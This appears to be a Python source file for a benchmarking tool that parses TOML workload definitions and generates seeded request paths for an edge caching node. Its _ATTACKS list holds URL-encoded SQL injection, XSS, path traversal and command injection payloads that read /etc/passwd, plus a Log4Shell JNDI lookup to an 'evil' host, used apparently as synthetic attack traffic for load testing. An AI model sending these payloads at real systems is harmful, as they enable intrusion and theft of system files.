"""Workload descriptions for ``edgenode bench``: TOML files under benchmarks/workloads/.

A workload says what traffic looks like (how many objects, how popular, how big, how many
image transforms and attacks) and how hard to push (concurrency or a rate, for how long),
plus how the simulated origin behaves during the run.  ``request_paths`` turns it into a
deterministic request sequence (seeded), so two runs of one workload are comparable.
"""

from __future__ import annotations

import bisect
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator

from edgenode.config import ConfigError, _Section, read_toml

__all__ = ["Workload", "load_workload", "parse_workload", "request_paths"]

_ATTACKS = [
    "/search?q=1%27%20OR%20%271%27%3D%271",
    "/page?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
    "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd",
    "/api?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
]
_IMAGE_WIDTHS = [200, 400, 800]
_IMAGE_FORMATS = ["auto", "webp", "jpeg"]


@dataclass
class Workload:
    name: str
    objects: int = 1000
    zipf: float = 1.0
    #: (size in bytes, weight) pairs
    sizes: list[tuple[int, float]] = field(default_factory=lambda: [(1024, 1.0)])
    image_share: float = 0.0
    attack_share: float = 0.0
    concurrency: int = 32
    rate: float | None = None
    duration: float = 10.0
    #: stop after this many requests (the first ones of the seeded sequence) instead of
    #: after ``duration``: two runs then send exactly the same requests
    requests: int | None = None
    ttl: int = 300
    seed: int = 1
    origin_latency_ms: float = 0.0
    origin_jitter_ms: float = 0.0
    origin_error_rate: float = 0.0


def parse_workload(data: dict[str, Any], name: str) -> Workload:
    s = _Section(data, "")
    w = Workload(name=s.get("name", name, str))
    w.objects = s.get("objects", w.objects, int)
    w.zipf = float(s.get("zipf", w.zipf, (int, float)))
    sizes = s.get("sizes", None, list)
    if sizes is not None:
        parsed = []
        for i, item in enumerate(sizes):
            key = f"sizes[{i}]"
            if not isinstance(item, dict):
                raise ConfigError(f"{key}: expected a table {{size = \"1KiB\", weight = 1}}")
            sub = _Section(item, key)
            parsed.append((sub.size("size", 1024), float(sub.get("weight", 1.0, (int, float)))))
            sub.done()
        if not parsed:
            raise ConfigError("sizes: at least one size")
        w.sizes = parsed
    for share in ("image_share", "attack_share"):
        value = float(s.get(share, 0.0, (int, float)))
        if not 0 <= value <= 1:
            raise ConfigError(f"{share}: must be between 0 and 1")
        setattr(w, share, value)
    if w.image_share + w.attack_share > 1:
        raise ConfigError("image_share: image_share + attack_share must not exceed 1")
    w.concurrency = s.get("concurrency", w.concurrency, int)
    rate = s.get("rate", None, (int, float))
    w.rate = float(rate) if rate is not None else None
    w.duration = s.duration("duration", w.duration)
    w.requests = s.get("requests", None, int)
    if w.requests is not None and w.requests < 1:
        raise ConfigError("requests: must be at least 1")
    w.ttl = s.get("ttl", w.ttl, int)
    w.seed = s.get("seed", w.seed, int)
    origin = _Section(s.get("origin", {}, dict), "origin")
    w.origin_latency_ms = float(origin.get("latency_ms", 0.0, (int, float)))
    w.origin_jitter_ms = float(origin.get("jitter_ms", 0.0, (int, float)))
    w.origin_error_rate = float(origin.get("error_rate", 0.0, (int, float)))
    origin.done()
    s.done()
    if w.objects < 1:
        raise ConfigError("objects: must be at least 1")
    if w.concurrency < 1:
        raise ConfigError("concurrency: must be at least 1")
    return w


def load_workload(path: str | Path) -> Workload:
    return parse_workload(read_toml(path, "workload"), Path(path).stem)


def request_paths(w: Workload) -> Iterator[str]:
    """An endless, seeded sequence of request paths against the simulated origin's routes."""
    rng = random.Random(w.seed)
    weights = [1.0 / (rank ** w.zipf) for rank in range(1, w.objects + 1)]
    cum: list[float] = []
    total = 0.0
    for wt in weights:
        total += wt
        cum.append(total)
    size_cum, size_total = [], 0.0
    for _, wt in w.sizes:
        size_total += wt
        size_cum.append(size_total)
    # each object keeps one size, drawn once, so the object set is stable across requests
    obj_sizes = [w.sizes[bisect.bisect_left(size_cum, rng.random() * size_total)][0]
                 for _ in range(w.objects)]
    while True:
        roll = rng.random()
        rank = bisect.bisect_left(cum, rng.random() * total)
        if roll < w.attack_share:
            yield rng.choice(_ATTACKS)
        elif roll < w.attack_share + w.image_share:
            width = _IMAGE_WIDTHS[rank % len(_IMAGE_WIDTHS)]
            fmt = _IMAGE_FORMATS[rank % len(_IMAGE_FORMATS)]
            yield f"/image/img{rank % 20}.jpg?w=2000&h=1500&width={width}&format={fmt}"
        else:
            yield f"/obj/o{rank}?size={obj_sizes[rank]}&ttl={w.ttl}"
